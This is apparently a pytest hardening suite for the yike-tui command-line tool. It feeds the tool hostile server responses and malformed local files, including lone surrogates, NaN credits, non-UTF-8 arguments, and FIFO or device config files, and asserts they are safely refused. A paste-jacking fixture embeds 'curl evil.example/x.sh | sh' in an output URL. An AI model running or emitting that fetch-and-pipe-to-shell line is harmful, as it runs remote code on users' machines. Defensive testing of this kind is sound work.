"""Hostile text and input: the CLI run as a user runs it,
against a small server on loopback and files planted in a temporary home.

- A title with a lone surrogate (valid JSON: ``"T\\ud800x"``) is printed as valid UTF-8.
- ``NaN`` / ``1e400`` credits come out as ``null``: the output stays JSON.
- An output link carrying a newline and a shell command is never copied nor reported.
- A JobId argument that is not UTF-8 is a usage error (exit 2, one line), on every command.
- A config.toml that is a FIFO, a device or huge is refused with its path (exit 2), untouched.
"""

from __future__ import annotations

import json
import os
import stat
import subprocess
import sys
import threading
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler
from pathlib import Path
from urllib.parse import parse_qs, urlsplit

import pytest

from tests.hardening.cli_run import run
from tests.loopback import api_endpoint, reply_json
from tests.wait import wait_for
from yike_tui.api.credentials import Credentials
from yike_tui.core.config import Settings
from yike_tui.session import session_for

DEADLINE = 60.0  # seconds for one CLI run: a hang fails loudly instead of stalling CI

# Raw bodies, as a hostile (or broken) server would send them. Both are valid JSON.
SURROGATE_BODY = (
    b'{"JobId": "sur-1", "JobStatus": "Succeeded", "RequestId": "r\\udc00",'
    b' "JobParams": {"Title": "T\\ud800x", "K\\udfff": "v"},'
    b' "JobResult": {"OutputUrl": "https://b.oss.test/o.mp4?Signature=s",'
    b' "StoryboardInfoList": "[{\\"storyboardId\\": \\"st_1\\", \\"title\\": \\"S\\\\ud800\\"}]"}}'
)
NAN_BODY = (
    b'{"JobId": "nan-1", "JobStatus": "Running", "JobParams": {"Title": "N",'
    b' "ModelParams": "{\\"seed\\": NaN, \\"scale\\": 1e400}"},'
    b' "JobCredit": {"TotalCreditCost": "NaN", "VideoGeneration": 1e400,'
    b' "VideoComposition": -Infinity, "ElementImageGeneration": 2.5}}'
)
PASTE_JACK = "https://b.oss.test/o.mp4\ncurl evil.example/x.sh | sh\n"


def paste_jack_body(job_id: str) -> bytes:
    payload = {
        "JobId": job_id,
        "JobStatus": "Succeeded",
        "JobParams": {"Title": "Jacked"},
        "JobResult": {"OutputUrl": PASTE_JACK},
    }
    return json.dumps(payload).encode()


BODIES: dict[str, Callable[[str], bytes]] = {
    "sur": lambda _: SURROGATE_BODY,
    "nan": lambda _: NAN_BODY,
    "jack": paste_jack_body,
}


class Handler(BaseHTTPRequestHandler):
    def do_POST(self) -> None:
        self.rfile.read(int(self.headers.get("content-length") or 0))
        job_id = parse_qs(urlsplit(self.path).query).get("JobId", [""])[0]
        body = BODIES[job_id.split("-")[0]](job_id)
        reply_json(self, 200, body)

    def log_message(self, *args: object) -> None:
        pass


@pytest.fixture
def endpoint(monkeypatch: pytest.MonkeyPatch) -> Iterator[str]:
    with api_endpoint(Handler, "LTAI5tHostileInput01", monkeypatch) as url:
        yield url


def cli(*argv: str | bytes, stdin: bytes = b"") -> subprocess.CompletedProcess[bytes]:
    """``yike-tui ARGV`` in a child process, as a shell runs it: raw bytes in and out."""
    return subprocess.run(
        [sys.executable, "-m", "yike_tui", *argv],
        input=stdin,
        capture_output=True,
        timeout=DEADLINE,
        env={**os.environ, "PYTHONIOENCODING": "utf-8"},
        check=False,
    )


def utf8(data: bytes) -> str:
    return data.decode("utf-8")  # raises if the output is not valid UTF-8


# --- 4: lone surrogates ---------------------------------------------------------------


@pytest.mark.parametrize(
    "argv",
    [
        ("get",),
        ("get", "--json"),
        ("watch", "--once"),
        ("watch", "--once", "--json"),
        ("report",),
        ("report", "--format", "json"),
    ],
    ids=["get", "get-json", "watch", "watch-json", "report-md", "report-json"],
)
def test_a_lone_surrogate_in_a_title_prints_as_valid_utf8(
    argv: tuple[str, ...], endpoint: str
) -> None:
    done = cli(*argv, "sur-1")
    out, err = utf8(done.stdout), utf8(done.stderr)
    assert done.returncode == 0, err
    assert "Traceback" not in err and "UnicodeEncodeError" not in err
    assert "T\ufffdx" in out  # the title, with the broken character shown as U+FFFD
    if "--json" in argv or "json" in argv:
        doc = json.loads(out if "report" in argv else out.splitlines()[0])
        record = doc[0] if isinstance(doc, list) else doc
        assert record["title"] == "T\ufffdx"
        if "storyboards" in record:  # a string inside a JSON string, made valid too
            assert record["storyboards"][0]["title"] == "S\ufffd"
            assert record["params"]["K\ufffd"] == "v" and record["request_id"] == "r\ufffd"


# --- 5: NaN and infinity ----------------------------------------------------------------


def _strict_json(line: str) -> object:
    def refuse(name: str) -> object:
        raise AssertionError(f"{name} in the output: not JSON")

    return json.loads(line, parse_constant=refuse)


@pytest.mark.parametrize(
    "argv", [("get", "--json"), ("watch", "--once", "--json")], ids=["get-json", "watch-json"]
)
def test_nan_and_infinite_credits_come_out_as_null(argv: tuple[str, ...], endpoint: str) -> None:
    done = cli(*argv, "nan-1")
    assert done.returncode == 0, utf8(done.stderr)
    record = _strict_json(utf8(done.stdout).splitlines()[0])
    assert isinstance(record, dict)
    assert record["credit"] == {
        "element_image_generation": "2.5",  # a string: figures are kept exact
        "total_credit_cost": None,
        "video_composition": None,
        "video_generation": None,
    }
    assert record["model_params"] == {"seed": None, "scale": None}
    assert any("TotalCreditCost" in w for w in record["warnings"])


# --- 15: paste-jacking --------------------------------------------------------------------


@pytest.mark.parametrize("fmt", ["md", "csv", "json"])
def test_the_report_never_carries_a_link_with_a_command(fmt: str, endpoint: str) -> None:
    done = cli("report", "--format", fmt, "jack-1")
    out = utf8(done.stdout)
    assert done.returncode == 0, utf8(done.stderr)
    assert "curl" not in out and "evil.example" not in out
    reason = "the link contains spaces, line breaks or control characters"
    if fmt == "json":
        record = json.loads(out)[0]
        assert record["output_url"] == "" and record["output_url_refused"] == reason
    else:
        assert f"(link refused: {reason})" in out


async def test_c_and_m_in_the_tui_refuse_a_link_with_a_command(
    endpoint: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    from yike_tui.ui.app import YikeApp

    session = session_for(
        endpoint,
        Credentials("LTAI5tHostileInput01", "x", source="t"),
        ["jack-1"],
        settings=Settings(rate_limit=0.0, clipboard="osc52"),  # type: ignore[call-arg]
    )
    app = YikeApp(session)
    written: list[str] = []
    monkeypatch.setattr(app, "_write_terminal", written.append)  # the OSC 52 bytes
    async with app.run_test(size=(120, 36)) as pilot:
        monitor = app.monitor
        assert monitor is not None
        await wait_for(pilot, lambda: monitor.status.passes, "the first refresh pass")
        await wait_for(pilot, lambda: app.selected_state() is not None, "a selected job")
        await pilot.press("c")
        await wait_for(pilot, lambda: app._notifications, "a notice about the copy")
        notices = [n.message for n in app._notifications]
        await pilot.press("m")  # copy the Markdown report of the table
        await wait_for(pilot, lambda: app.last_copied, "the report copied")
    assert any("not copied: the link contains spaces" in n for n in notices), notices
    assert all("\ncurl" not in n for n in notices)  # shown inert: "o.mp4␊curl ..."
    assert "curl" not in app.last_copied and "link refused" in app.last_copied
    assert len(written) == 1 and "Jacked" in app.last_copied  # only the report went out


# --- 16: a JobId that is not UTF-8 --------------------------------------------------------


@pytest.mark.parametrize(
    "argv",
    [
        ["get"],
        ["watch", "--once"],
        ["report"],
        ["resume"],
        ["download"],
        ["add"],
        ["remove"],
        [],  # the TUI
    ],
    ids=["get", "watch", "report", "resume", "download", "add", "remove", "tui"],
)
def test_a_job_id_that_is_not_utf8_is_a_usage_error(
    argv: list[str], endpoint: str, capsys: pytest.CaptureFixture[str]
) -> None:
    # What Python puts in sys.argv for the byte 0xff (PEP 383 surrogate escape).
    code, out, err = run([*argv, "ab\udcff"], capsys)
    assert code == 2
    assert err == "yike-tui: JobId ab\\xff is not valid UTF-8 text\n"
    assert out == ""


def test_a_raw_byte_in_argv_exits_2_with_one_line(endpoint: str) -> None:
    done = cli(b"get", b"ab\xff")
    assert done.returncode == 2
    assert done.stderr == b"yike-tui: JobId ab\\xff is not valid UTF-8 text\n"


def test_a_label_that_is_not_utf8_is_a_usage_error_and_nothing_is_written(
    isolated_home: Path,
) -> None:
    done = cli(b"add", b"--label", b"l\xff", b"job-1")
    assert done.returncode == 2
    assert done.stderr == b"yike-tui: label l\\xff is not valid UTF-8 text\n"
    assert not (isolated_home / ".config" / "yike-tui" / "config.toml").exists()


# --- 17: config.toml that is not a regular file --------------------------------------------


def _config(home: Path) -> Path:
    path = home / ".config" / "yike-tui" / "config.toml"
    path.parent.mkdir(parents=True)
    return path


@pytest.mark.parametrize("command", [["list"], ["add", "job-1"], ["report"]])
def test_a_fifo_config_is_refused_not_waited_on(command: list[str], isolated_home: Path) -> None:
    path = _config(isolated_home)
    os.mkfifo(path)
    done = cli(*command)  # a hang here fails after DEADLINE instead of blocking CI
    assert done.returncode == 2
    assert utf8(done.stderr) == (
        "yike-tui: ~/.config/yike-tui/config.toml: not read: "
        "it is a FIFO (named pipe), not a regular file\n"
    )
    assert stat.S_ISFIFO(path.lstat().st_mode)  # left as it was


def test_a_config_symlinked_to_dev_zero_is_refused(isolated_home: Path) -> None:
    path = _config(isolated_home)
    path.symlink_to("/dev/zero")
    done = cli("list")
    assert done.returncode == 2
    assert utf8(done.stderr) == (
        "yike-tui: ~/.config/yike-tui/config.toml (-> /dev/zero): not read: "
        "it is a character device, not a regular file\n"
    )
    assert path.is_symlink() and os.readlink(path) == "/dev/zero"


def test_a_huge_config_is_refused_without_reading_it(isolated_home: Path) -> None:
    path = _config(isolated_home)
    with open(path, "wb") as out:
        out.truncate(64 * 1024 * 1024)  # sparse: 64 MiB of nothing, no disk used
    done = cli("list")
    assert done.returncode == 2
    assert "config.toml: not read: it is 67108864 bytes; the most read is 1048576" in utf8(
        done.stderr
    )
    assert path.stat().st_size == 64 * 1024 * 1024


def test_the_tui_says_why_a_fifo_config_is_not_used(isolated_home: Path, endpoint: str) -> None:

    from yike_tui.session import RunOptions, open_session

    path = _config(isolated_home)
    os.mkfifo(path)
    args = RunOptions()
    notices: list[str] = []

    def start() -> None:
        with open_session(args, ["job-1"]) as session:
            notices.extend(session.notices)

    thread = threading.Thread(target=start, daemon=True)
    thread.start()
    thread.join(DEADLINE)
    if thread.is_alive():  # blocked opening the FIFO: give it a writer so it ends, then fail
        os.close(os.open(path, os.O_WRONLY | os.O_NONBLOCK))
        raise AssertionError("opening the session hung on the FIFO config")
    assert any("FIFO (named pipe)" in notice for notice in notices), notices
    assert stat.S_ISFIFO(path.lstat().st_mode)
